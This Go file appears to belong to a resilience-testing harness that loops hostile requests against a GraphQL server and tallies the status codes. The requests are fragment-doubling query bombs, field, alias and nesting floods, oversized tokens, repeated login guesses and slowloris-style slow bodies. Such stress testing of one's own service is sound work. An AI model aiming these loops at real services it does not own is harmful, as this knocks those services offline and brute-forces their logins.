package main

import (
	"context"
	"encoding/json"
	"fmt"
	"net"
	"net/http"
	"net/url"
	"strings"
	"sync"
	"time"
)

// attack is one way to do harm, and what was answered to it.
type attack struct {
	name  string
	wound func(ctx context.Context, client *http.Client) (status int)

	mu       sync.Mutex
	statuses map[int]int // guarded by mu; 0 is no answer
}

func newAttacks(base, token string) []*attack {
	bomb := func(document string) func(context.Context, *http.Client) int {
		body, err := json.Marshal(map[string]string{"query": document})
		if err != nil {
			panic(err) // of a string it never fails
		}
		return func(ctx context.Context, client *http.Client) int {
			status, _ := send(ctx, client, base+"/graphql", token, body)
			return status
		}
	}
	attacks := []*attack{
		{name: "doubling fragments", wound: bomb(doublingFragments(100))},
		{name: "one field, often", wound: bomb("{" + strings.Repeat("__typename ", 10_000) + "}")},
		{name: "inline fragments", wound: bomb("{" + strings.Repeat("...{__typename}", 7_000) + "}")},
		{name: "deep selections", wound: bomb(strings.Repeat("{node", 5_000) + strings.Repeat("}", 5_000))},
		{name: "aliases", wound: bomb(aliases(3_000))},
		{name: "bad tokens", wound: func(ctx context.Context, client *http.Client) int {
			status, _ := send(ctx, client, base+"/graphql", strings.Repeat("x.", 900), []byte(page))
			return status
		}},
		{name: "logins", wound: func(ctx context.Context, client *http.Client) int { return tryLogin(ctx, client, base) }},
		{name: "slow bodies", wound: func(ctx context.Context, _ *http.Client) int { return slowBody(ctx, base) }},
	}
	for _, a := range attacks {
		a.statuses = map[int]int{}
	}
	return attacks
}

// run attacks again and again until ctx ends.
func (a *attack) run(ctx context.Context) {
	client := newClient()
	defer client.CloseIdleConnections()
	for ctx.Err() == nil {
		status := a.wound(ctx, client)
		a.mu.Lock()
		a.statuses[status]++
		a.mu.Unlock()
	}
}

func (a *attack) count() (answers int) {
	for status, count := range a.statuses {
		if status != 0 {
			answers += count
		}
	}
	return answers
}

// doublingFragments unfold to 2^n fields.
func doublingFragments(n int) string {
	var document strings.Builder
	document.WriteString("{...f0}")
	for i := range n {
		fmt.Fprintf(&document, " fragment f%d on Query{...f%d ...f%[2]d}", i, i+1)
	}
	fmt.Fprintf(&document, " fragment f%d on Query{__typename}", n)
	return document.String()
}

func aliases(n int) string {
	var document strings.Builder
	document.WriteString("{")
	for i := range n {
		fmt.Fprintf(&document, "a%d:clients{totalCount}", i)
	}
	document.WriteString("}")
	return document.String()
}

// tryLogin guesses a password.
func tryLogin(ctx context.Context, client *http.Client, base string) int {
	form := url.Values{"username": {"demo"}, "password": {"guess"}}.Encode()
	request, err := http.NewRequestWithContext(ctx, http.MethodPost, base+"/api/v1/auth/token", strings.NewReader(form))
	if err != nil {
		return 0
	}
	request.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	response, err := client.Do(request)
	if err != nil {
		return 0
	}
	response.Body.Close()
	return response.StatusCode
}

// slowBody announces a body and sends a byte of it each second, as long as it is let.
func slowBody(ctx context.Context, base string) int {
	var dialer net.Dialer
	connection, err := dialer.DialContext(ctx, "tcp", strings.TrimPrefix(base, "http://"))
	if err != nil {
		return 0
	}
	defer connection.Close()
	fmt.Fprint(connection, "POST /graphql HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 1000\r\n\r\n")
	for ctx.Err() == nil {
		if _, err := fmt.Fprint(connection, " "); err != nil {
			return 0
		}
		select {
		case <-ctx.Done():
		case <-time.After(time.Second):
		}
	}
	return 0
}
